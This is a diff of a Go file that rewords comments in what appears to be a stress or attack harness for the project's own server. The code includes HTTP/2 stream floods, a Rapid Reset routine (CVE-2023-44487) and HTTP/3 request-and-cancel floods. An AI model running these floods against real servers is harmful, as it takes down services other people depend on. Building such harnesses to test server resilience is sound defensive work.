@@ -18,30 +18,30 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// mostStreams bounds what one connection of HTTP/2 opens in one attack.
+// mostStreams is the most streams of one HTTP/2 connection in one attack.
 const mostStreams = 100_000
 
-// h2 is a client of HTTP/2 that does as it likes.
+// h2 is an HTTP/2 client that may break the rules.
 type h2 struct {
 	ctx      context.Context
 	attacker *attacker
 	framer   *http2.Framer
 	out      *bufio.Writer
-	request  []byte // the header block of each request
+	request  []byte // header block of each request
 	next     uint32
 	writing  sync.Mutex
 	answered atomic.Int64
 }
 
-// streamPath is asked for by floods of streams, and pagePath by one that the module
-// has no part in.
+// streamPath is the path of floods of streams. pagePath is that of the same flood for a page without
+// streams.
 const (
 	streamPath = "/events?topic=news/1"
 	pagePath   = "/ready"
 )
 
-// floodH2 has some connections flood the server with requests for a path, each again
-// when it is ended.
+// floodH2 has some connections flood the server with requests for a path. Each connection that ends is
+// opened again.
 func (a *attacker) floodH2(ctx context.Context, connections int, path string, flood func(*h2) error) {
 	var clients sync.WaitGroup
 	for range connections {
@@ -88,7 +88,7 @@ func (a *attacker) oneH2(ctx context.Context, path string, flood func(*h2) error
 	reading.Wait()
 }
 
-// read takes what the server says, and answers what it must not leave unanswered.
+// read reads frames of the server, and answers those that need an answer.
 func (c *h2) read() {
 	for {
 		frame, err := c.framer.ReadFrame()
@@ -122,15 +122,15 @@ func (c *h2) read() {
 	}
 }
 
-// open asks for a stream, and returns its number.
+// open requests a stream and returns its number.
 func (c *h2) open() (id uint32, err error) {
 	id = c.next
 	c.next += 2
 	return id, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request, EndStream: true, EndHeaders: true})
 }
 
-// manyStreams opens as many streams as the server allows, resets them when they are
-// answered, and opens others.
+// manyStreams opens as many streams as the server allows. It resets them when they are answered, and
+// opens others.
 func manyStreams(c *h2) error {
 	const atOnce = 200
 	for c.next < 2*mostStreams {
@@ -173,7 +173,7 @@ func manyStreams(c *h2) error {
 	return nil
 }
 
-// rapidResets resets each stream right after it has asked for it. (CVE-2023-44487)
+// rapidResets resets each stream right after its request. (CVE-2023-44487)
 func rapidResets(c *h2) error {
 	for c.next < 2*mostStreams {
 		c.writing.Lock()
@@ -194,7 +194,7 @@ func rapidResets(c *h2) error {
 	return nil
 }
 
-// floodH3 has connections of HTTP/3 ask for a path and cancel that.
+// floodH3 has HTTP/3 connections that request a path and cancel the request.
 func (a *attacker) floodH3(ctx context.Context, path string) {
 	var clients sync.WaitGroup
 	for range scale(3, 20) {
